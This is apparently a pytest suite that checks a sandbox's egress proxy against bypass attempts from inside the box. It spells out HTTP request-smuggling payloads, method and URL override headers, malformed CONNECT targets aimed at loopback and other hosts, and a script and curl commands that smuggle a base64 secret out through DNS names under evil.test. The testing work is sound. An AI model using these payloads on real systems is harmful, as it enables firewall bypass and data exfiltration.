"""Attacks on egress by its own client: bytes a proxy might misread."""
import hosts
import pytest

POLICY = """
network:
  allow:
    - endpoint: echo.test
      methods: [GET, POST]
      paths: ["/ok/**"]
    - endpoint: echo.test
      ports: [80]
      protocols: [http]
      methods: [GET, POST]
      paths: ["/ok/**"]
"""
TALK = """
import socket, ssl, sys
tls, first, after = {0!r}, {1!r}, {2!r}
s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(4)
def drain(s):
    d = b""
    try:
        while True:
            x = s.recv(65536)
            if not x: break
            d += x
    except OSError: pass
    return d
if tls:
    s.sendall(first)
    d = b""
    while b"\\r\\n\\r\\n" not in d:
        x = s.recv(65536)
        if not x: break
        d += x
    sys.stdout.buffer.write(d)
    if b" 200 " in d.split(b"\\r\\n")[0]:
        c = ssl.create_default_context(); c.check_hostname = False
        c.verify_mode = ssl.CERT_NONE
        s = c.wrap_socket(s, server_hostname=tls)
        s.settimeout(4)
        s.sendall(after)
else:
    s.sendall(first)
sys.stdout.buffer.write(drain(s))
"""


def talk(sh, first, after=b"", tls=None):
    r = sh.exec("box", "python3", "-c", TALK.format(tls, first, after),
                raw=True, timeout=60)
    return r.out


CONNECT = (b"CONNECT echo.test:443 HTTP/1.1\r\nHost: echo.test:443\r\n\r\n")


@pytest.fixture
def box(boxes):
    return boxes(POLICY)


def absolute(head, body=b""):
    return b"\r\n".join(head) + b"\r\n\r\n" + body


OVERRIDES = {
    "a method": [b"X-HTTP-Method-Override: DELETE"],
    "in small letters": [b"x-http-method-override: delete"],
    "with underscores": [b"X_HTTP_Method_Override: DELETE"],
    "another name": [b"X-HTTP-Method: PUT"],
    "a third name": [b"X-Method-Override: PATCH"],
    "not a method": [b"X-HTTP-Method-Override: GET, DELETE"],
    "twice": [b"X-HTTP-Method-Override: GET", b"X-HTTP-Method: DELETE"],
    "a path": [b"X-Original-URL: /secret"],
    "a path with dots": [b"X-Rewrite-URL: /ok/../secret"],
    "a whole URL": [b"X-Original-URL: http://echo.test/secret"],
    "a path that climbs": [b"X-Rewrite-URL: /ok/%2e%2e/%2e%2e/x"],
}


@pytest.mark.parametrize("name", OVERRIDES)
def test_class_54_a_field_that_asks_for_another_request_is_judged(
        box, world, name):
    """Some servers take POST with such a field for what the field says."""
    before = len(world.requests())
    out = talk(box, CONNECT, absolute(
        [b"POST /ok/a HTTP/1.1", b"Host: echo.test", b"Connection: close",
         *OVERRIDES[name]]), tls="echo.test")
    assert b" 403 " in out or b" 400 " in out, out
    assert len(world.requests()) == before


def test_class_54_a_field_that_asks_for_what_is_allowed_passes(box, world):
    out = talk(box, CONNECT, absolute(
        [b"POST /ok/a HTTP/1.1", b"Host: echo.test", b"Content-Length: 0",
         b"X-HTTP-Method-Override: GET", b"X-Original-URL: /ok/b?c",
         b"Connection: close"]),
        tls="echo.test")
    assert b"HTTP/1.1 200 " in out.split(b"\r\n\r\n", 1)[1], out


HIDDEN = b"GET /hidden HTTP/1.1\r\nHost: echo.test\r\n\r\n"
SMUGGLE = {
    "both lengths": ([b"Content-Length: 4", b"Transfer-Encoding: chunked"],
                     b"0\r\n\r\n" + HIDDEN),
    "chunked then length": ([b"Transfer-Encoding: chunked",
                             b"Content-Length: 4"], b"0\r\n\r\n" + HIDDEN),
    "two lengths": ([b"Content-Length: 0", b"Content-Length: 44"], HIDDEN),
    "a list of lengths": ([b"Content-Length: 0, 44"], HIDDEN),
    "signed length": ([b"Content-Length: +0"], HIDDEN),
    "hex length": ([b"Content-Length: 0x0"], HIDDEN),
    "space in length": ([b"Content-Length: 0 0"], HIDDEN),
    "negative length": ([b"Content-Length: -1"], HIDDEN),
    "huge length": ([b"Content-Length: 18446744073709551616"], HIDDEN),
    "space before colon": ([b"Transfer-Encoding : chunked"],
                           b"0\r\n\r\n" + HIDDEN),
    "folded": ([b"Transfer-Encoding:", b" chunked"], b"0\r\n\r\n" + HIDDEN),
    "folded field": ([b"X: a", b"\tb", b"Content-Length: 0"], HIDDEN),
    "tab chunked": ([b"Transfer-Encoding: \x0bchunked"],
                    b"0\r\n\r\n" + HIDDEN),
    "two codings": ([b"Transfer-Encoding: chunked, identity"],
                    b"0\r\n\r\n" + HIDDEN),
    "x chunked": ([b"Transfer-Encoding: xchunked"], b"0\r\n\r\n" + HIDDEN),
    "twice chunked": ([b"Transfer-Encoding: chunked",
                       b"Transfer-Encoding: chunked"], b"0\r\n\r\n" + HIDDEN),
    "nul in a field": ([b"X: a\0b", b"Content-Length: 0"], HIDDEN),
    "cr in a field": ([b"X: a\rContent-Length: 44", b"Content-Length: 0"],
                      HIDDEN),
    "bare lf": ([b"X: a\nTransfer-Encoding: chunked"], b"0\r\n\r\n" + HIDDEN),
    "chunk with extra": ([b"Transfer-Encoding: chunked"],
                         b"0 \r\n\r\n" + HIDDEN),
    "chunk of 17 digits": ([b"Transfer-Encoding: chunked"],
                           b"00000000000000000\r\n\r\n" + HIDDEN),
    "chunk with lf": ([b"Transfer-Encoding: chunked"], b"0\n\n" + HIDDEN),
    "two hosts": ([b"Host: other.test", b"Content-Length: 0"], HIDDEN),
}


@pytest.mark.parametrize("name", list(SMUGGLE))
@pytest.mark.parametrize("way", ["forward", "tunnel"])
def test_class_38_a_request_hidden_behind_another_is_not_sent(
        box, world, name, way):
    fields, body = SMUGGLE[name]
    if way == "forward":
        talk(box, absolute([b"POST http://echo.test/ok/x HTTP/1.1",
                            b"Host: echo.test", *fields], body))
    else:
        talk(box, CONNECT, absolute([b"POST /ok/x HTTP/1.1",
                                     b"Host: echo.test", *fields], body),
             tls="echo.test")
    for got in world.requests():
        assert "/hidden" not in got["target"], got
        assert "/hidden" not in got["body"] or got["length"] >= 40, got
        assert got["host"] == "echo.test", got


def test_class_38_a_pipelined_request_is_judged_like_the_first(box, world):
    out = talk(box, CONNECT, absolute(
        [b"GET /ok/1 HTTP/1.1", b"Host: echo.test"]) + HIDDEN,
        tls="echo.test")
    assert b"/ok/1" in out
    assert [e["target"] for e in world.requests()] == ["/ok/1"]


HEADS = [
    b"CONNECT echo.test\0.other.test:443 HTTP/1.1",
    b"CONNECT echo.test:0443 HTTP/1.1", b"CONNECT echo.test:+443 HTTP/1.1",
    b"CONNECT echo.test:443:443 HTTP/1.1", b"CONNECT echo.test HTTP/1.1",
    b"CONNECT echo.test:70000 HTTP/1.1", b"CONNECT  echo.test:443 HTTP/1.1",
    b"CONNECT echo.test:443  HTTP/1.1", b"CONNECT echo.test:443 HTTP/1.0x",
    b"CONNECT echo.test:443\tHTTP/1.1", b"CONNECT x@echo.test:443 HTTP/1.1",
    b"CONNECT other.test@echo.test:443 HTTP/1.1",
    b"CONNECT echo.test%2eother.test:443 HTTP/1.1",
    b"CONNECT 127.0.0.1:3128 HTTP/1.1", b"CONNECT localhost:3128 HTTP/1.1",
    b"CONNECT [::ffff:7f00:1]:18080 HTTP/1.1",
    b"CONNECT 44.128.6.1:443 HTTP/1.1", b"CONNECT 746587649:443 HTTP/1.1",
    b"CONNECT 0x2c800601:443 HTTP/1.1", b"CONNECT other.test:443 HTTP/1.1",
    b"connect other.test:443 HTTP/1.1", b"CONNECT /echo.test:443 HTTP/1.1",
    b"CONNECT http://echo.test:443 HTTP/1.1", b"GET /ok/x HTTP/1.1",
    b"GET other.test/ok/ HTTP/1.1", b"GET https://echo.test/ok/x HTTP/1.1",
    b"GET ftp://echo.test/ok/x HTTP/1.1", b"GET //echo.test/ok/x HTTP/1.1",
    b"GET http://echo.test:80@other.test/ok/x HTTP/1.1",
    b"GET http://other.test#@echo.test/ok/x HTTP/1.1",
    b"GET http://echo.test\\@other.test/ok/x HTTP/1.1",
    b"GET http://echo.test?@other.test/ok/x HTTP/1.1",
    b"OPTIONS * HTTP/1.1", b"PRI * HTTP/2.0", b"\x16\x03\x01\x02\x00\x01",
    b"\x05\x01\x00", b"\x04\x01\x01\xbb\x2c\x80\x06\x01\x00",
    b"GET http://\xef\xbd\x85cho.test/ok/x HTTP/1.1",
]


@pytest.mark.parametrize("head", HEADS)
def test_class_39_40_46_odd_targets_open_nothing(box, world, head):
    out = talk(box, head + b"\r\nHost: echo.test\r\n\r\n")
    first = out.split(b"\r\n")[0]
    assert b" 200" not in first, out
    assert world.requests() == []
    assert [e for e in world.events(event="packet")
            if e["proto"] == "tcp"] == []


def test_class_37_forward_requests_are_judged_like_tunnelled_ones(
        box, world):
    for method, path in (("GET", "/no"), ("DELETE", "/ok/x"),
                         ("GET", "/ok/../no"), ("GET", "/ok/%2e%2e/no")):
        out = talk(box, absolute([
            f"{method} http://echo.test{path} HTTP/1.1".encode(),
            b"Host: echo.test", b"Connection: close"]))
        assert b" 403" in out.split(b"\r\n")[0], (path, out)
    assert world.requests() == []


@pytest.mark.parametrize("host", [b"other.test", b"echo.test:80",
                                  b"other.test:443", b"", b"echo.test."])
def test_class_47_the_host_field_must_agree_with_the_tunnel(
        box, world, host):
    talk(box, CONNECT, absolute([b"GET /ok/x HTTP/1.1", b"Host: " + host]),
         tls="echo.test")
    for got in world.requests():
        assert got["host"] == "echo.test", got


def test_class_47_no_host_field_is_refused(box, world):
    out = talk(box, CONNECT, absolute([b"GET /ok/x HTTP/1.1"]),
               tls="echo.test")
    assert b" 400" in out or b" 403" in out, out
    assert world.requests() == []


def test_class_47_the_server_name_must_agree_with_the_tunnel(box, world):
    talk(box, CONNECT, absolute([b"GET /ok/x HTTP/1.1",
                                 b"Host: echo.test"]), tls="other.test")
    for got in world.requests():
        assert (got["sni"], got["host"]) == ("echo.test", "echo.test"), got


def test_class_47_an_absolute_target_in_a_tunnel_does_not_move_it(
        box, world):
    talk(box, CONNECT, absolute([b"GET http://other.test/ok/x HTTP/1.1",
                                 b"Host: echo.test"]), tls="echo.test")
    talk(box, CONNECT, absolute([b"GET https://other.test/ok/x HTTP/1.1",
                                 b"Host: other.test"]), tls="echo.test")
    for got in world.requests():
        assert got["host"] == "echo.test" and "other" not in got["target"]


def test_class_49_no_tunnel_in_a_tunnel(box, world):
    out = talk(box, CONNECT, CONNECT.replace(b"echo", b"other"),
               tls="echo.test")
    assert b" 200 " not in out.split(b"\r\n\r\n", 1)[1].split(b"\r\n")[0]
    assert world.requests() == []


def test_class_48_plain_bytes_where_tls_was_promised_are_not_passed(
        box, world):
    r = box.exec("box", "python3", "-c", TALK.format(
        None, CONNECT + b"GET /ok/x HTTP/1.1\r\nHost: echo.test\r\n\r\n",
        b""), raw=True)
    assert b"sni" not in r.out, r.out
    r = box.exec("box", "python3", "-c", TALK.format(
        None, CONNECT + b"SSH-2.0-x\r\n" + b"\0" * 100, b""), raw=True)
    assert world.requests() == []
    assert b"SSH" not in r.out.split(b"\r\n\r\n")[-1]


def test_class_55_an_upgrade_does_not_open_a_blind_tunnel(box, world):
    out = talk(box, CONNECT, absolute([
        b"GET /ok/x HTTP/1.1", b"Host: echo.test", b"Upgrade: websocket",
        b"Connection: Upgrade", b"Sec-WebSocket-Version: 13",
        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="]) + HIDDEN,
        tls="echo.test")
    assert b" 101 " not in out, out
    assert all("/hidden" not in e["target"] for e in world.requests())


def test_class_57_http2_is_refused_in_a_tunnel(box, world):
    talk(box, CONNECT, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0" * 30,
         tls="echo.test")
    assert world.requests() == []


def test_class_43_a_name_is_not_looked_up_to_refuse_it(box, world):
    """secret-data.evil.test would carry the secret in the question."""
    for head in (b"CONNECT c2VjcmV0.evil.test:443 HTTP/1.1",
                 b"GET http://c2VjcmV0.evil.test/ HTTP/1.1"):
        talk(box, head + b"\r\nHost: c2VjcmV0.evil.test\r\n\r\n")
    box.sh("box", "getent hosts c2VjcmV0.evil.test; "
           "curl -m 3 --noproxy '*' https://c2VjcmV0.evil.test/")
    assert world.events() == []


EXFIL = r"""
import socket, struct
NAME = "c2VjcmV0LXdvcmQ.exfil.evil.test"
def question(name, kind):
    q = b"\x12\x34\1\0\0\1\0\0\0\0\0\0"
    for label in name.split("."): q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack("!HH", kind, 1)
KINDS = (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 64, 65, 252, 255)
NAMES = (NAME, NAME.upper(), "sub." + NAME, NAME + ".echo.test",
         "c2VjcmV0LXdvcmQ.echo.test", "x" * 63 + ".echo.test")
def tries():
    s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(5)
    for kind in KINDS:
        for name in NAMES:
            s.sendto(question(name, kind), ("127.0.0.1", 53))
            yield s.recv(4096)
    t = socket.create_connection(("127.0.0.1", 53), 5)
    for name in NAMES:
        q = question(name, 16)
        t.sendall(struct.pack("!H", len(q)) + q)
        yield t.recv(4096)[2:]
for a in tries():
    if a[3] & 15 != 3 or a[7]: print("answered", a)
q = question(NAME, 16)
for to, port in (("44.128.0.53", 53), ("8.8.8.8", 53), ("1.1.1.1", 853),
                 ("224.0.0.251", 5353), ("224.0.0.252", 5355)):
    try:
        socket.socket(type=socket.SOCK_DGRAM).sendto(q, (to, port))
        print("sent")
    except OSError: pass
    try:
        t = socket.create_connection((to, port), 5)
        t.sendall(struct.pack("!H", len(q)) + q)
        if t.recv(16): print("answered")
    except OSError: pass
for head in (b"\5\1\0\3" + bytes([len(NAME)]) + NAME.encode() + b"\1\xbb",
             b"\5\3\0\3" + bytes([len(NAME)]) + NAME.encode() + b"\0\x35"):
    t = socket.create_connection(("127.0.0.1", 3128), 5)
    t.sendall(b"\5\1\0"); t.recv(2); t.sendall(head)
    if t.recv(16)[1] == 0: print("opened")
"""


def test_class_43_no_question_carries_a_secret_by_any_way(box, world):
    """echo.test is allowed: nothing below it, and no kind but an address."""
    r = box.exec("box", "python3", "-c", EXFIL, timeout=120)
    assert r.code == 0 and r.out == "", r
    box.sh("box", "for n in c2VjcmV0.echo.test echo.test; do for h in "
           "\"-H Host:$n\" --doh-url=https://$n/dns-query; do "
           "curl -m 5 -s $h https://echo.test/no >/dev/null; done; done; "
           "LOCALDOMAIN=exfil.evil.test getent hosts c2VjcmV0; true")
    names = {e["name"].lower() for e in world.events(event="dns")}
    assert names <= {"echo.test"}, names
    assert world.packets("8.8.8.8", "1.1.1.1") == []


def test_class_45_a_whole_internet_of_addresses_is_refused(sh):
    for cidr in ("0.0.0.0/0", "::/0", "0.0.0.0/1"):
        p = sh.policy("network:\n  allow:\n    - endpoint: echo.test\n"
                      f"      allowed_ips: ['{cidr}']\n")
        assert sh.run("policy", "check", p).code != 0, cidr


@pytest.mark.parametrize("what", ["*", "**", "*.com", "**.test", "*.*",
                                  "http://echo.test", "echo.test/x",
                                  "echo.test:443x", "e cho.test"])
def test_class_45_an_entry_for_everything_is_refused(sh, what):
    p = sh.policy(f"network:\n  allow:\n    - endpoint: '{what}'\n")
    assert sh.run("policy", "check", p).code != 0


def test_class_50_without_proxy_variables_the_judge_is_the_same(box, world):
    r = box.sh("box", "for u in https://echo.test/no http://44.128.6.1/ok/x "
               "http://echo.test:8080/ok/x https://44.128.6.1/ok/x; do "
               "env -i PATH=$PATH curl -m 3 -fsSk $u && echo through; "
               "no_proxy=* curl -m 3 -fsSk $u && echo through; "
               "curl -m 3 -fsSk --socks5 127.0.0.1:3128 $u && echo through; "
               "curl -m 3 -fsSk --socks5-hostname 127.0.0.1:3128 $u && "
               "echo through; done; true")
    assert r.code == 0 and r.out == "", r
    assert world.requests() == []


def test_class_50_an_address_of_a_name_is_no_way_around_it(box, world):
    """echo.test's address inside, taken for another name."""
    r = box.sh("box", "a=$(getent ahostsv4 echo.test | head -1 | "
               "cut -d' ' -f1); env -i PATH=$PATH curl -m 3 -fsSk --resolve "
               "other.test:443:$a https://other.test/ok/x && echo through; "
               "env -i PATH=$PATH curl -m 3 -fsS --resolve "
               "other.test:80:$a http://other.test/ok/x && echo through")
    assert "through" not in r.out, r
    assert world.requests() == []
    assert world.packets(hosts.HOSTS["other.test"]) == []


def test_class_52_names_over_https_and_tls_are_only_hosts_like_others(
        box, world):
    r = box.sh("box", "curl -fsS -m 5 https://dns.google/dns-query; "
               "curl -fsS -m 5 https://1.1.1.1/dns-query; "
               "curl -fsS -m 5 --proxytunnel telnet://evil.test:853 "
               "</dev/null")
    assert r.code != 0
    assert world.events() == []


def test_class_59_nothing_of_ours_listens_inside_but_egresss_sockets(box):
    r = box.sh("box", "cat /proc/net/tcp /proc/net/tcp6 /proc/net/udp "
               "/proc/net/udp6 2>/dev/null")

    def sockets(state):
        return {line.split()[1] for line in r.out.splitlines()
                if len(line.split()) > 3 and line.split()[3] == state}

    # The proxy, names, and what catches connections (198.18.0.1:3129).
    assert sockets("0A") == {"0100007F:0C38", "0100007F:0035",
                             "010012C6:0C39"}, r
    assert sockets("07") == {"0100007F:0035"}, r


def test_class_59_a_host_service_on_loopback_is_not_reached(box, world):
    for host in (b"127.0.0.1", b"localhost", b"[::1]", b"0.0.0.0"):
        out = talk(box, absolute([
            b"GET http://" + host + b":18080/ HTTP/1.1",
            b"Host: " + host + b":18080", b"Connection: close"]))
        assert b"SECRET" not in out
    assert world.requests() == []


def test_class_59_another_user_may_not_talk_to_the_gateway(sh):
    import os
    import subprocess
    if os.getuid() != 0:
        pytest.skip("needs a second user")
    sh.ok("sandbox", "list")
    sock = os.path.join(sh.home, "run", "gateway.sock")
    r = subprocess.run(
        ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
         "curl", "-sS", "--unix-socket", sock, "http://x/v1/status"],
        capture_output=True, text=True, timeout=20, check=False)
    assert r.returncode != 0 and r.stdout == "", r


def test_class_75_a_flood_of_denials_neither_stops_nor_swells_egress(
        box, world):
    r = box.exec("box", "python3", "-c", """
import socket
n = 0
for i in range(600):
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(b"CONNECT other.test:443 HTTP/1.1\\r\\nHost: other.test:443"
              b"\\r\\n\\r\\n")
    n += b" 403 " in s.recv(4096)
    s.close()
print(n)
""", timeout=120)
    assert r.out == "600\n", r
    from shell import named
    for pid in named("openshell-egress"):
        with open(f"/proc/{pid}/status", encoding="latin-1") as f:
            rss = next(int(x.split()[1]) for x in f if x.startswith("VmRSS"))
        assert rss < 64 << 10, f"egress holds {rss} KiB"
    assert box.exec("box", "curl", "-fsS", "https://echo.test/ok/x").code == 0
    assert len(box.audit(host="other.test", verdict="denied")) >= 1


def test_class_75_idle_connections_do_not_lock_others_out(box):
    r = box.exec("box", "python3", "-c", """
import socket, urllib.request
held = []
for i in range(2000):
    try:
        s = socket.create_connection(("127.0.0.1", 3128), timeout=2)
    except OSError:
        break
    if i % 2: s.sendall(b"CONNECT echo.test:443 HT")
    held.append(s)
for s in held[:len(held) // 2]:
    s.close()
import time; time.sleep(0.5)
print(urllib.request.urlopen("https://echo.test/ok/x", timeout=30).status)
""", timeout=120)
    assert r.out == "200\n", r


def test_class_63_a_port_shared_with_an_allowed_program_borrows_nothing(
        sh, world):
    """From another address of loopback, with the port that curl has."""
    sh.start("box", """
network:
  allow:
    - endpoint: echo.test
      binaries: [curl]
""")
    r = sh.exec("box", "python3", "-c", """
import socket, subprocess, time
p = subprocess.Popen(["curl", "-sS", "https://echo.test/slow/4"])
time.sleep(1)
ports = [int(l.split()[1].split(":")[1], 16) for l in open("/proc/net/tcp")
         if ":0C38 01 " in l]
assert ports, "curl has no connection"
for port in ports:
    s = socket.socket()
    s.bind(("127.0.0.2", port))
    s.connect(("127.0.0.1", 3128))
    s.sendall(b"CONNECT echo.test:443 HTTP/1.1\\r\\nHost: echo.test:443"
              b"\\r\\n\\r\\n")
    print(s.recv(4096).split(b"\\r\\n")[0].decode())
p.wait()
""", timeout=60)
    assert "HTTP/1.1 403" in r.out and " 200" not in r.out, r
    assert "at last" in r.out, r
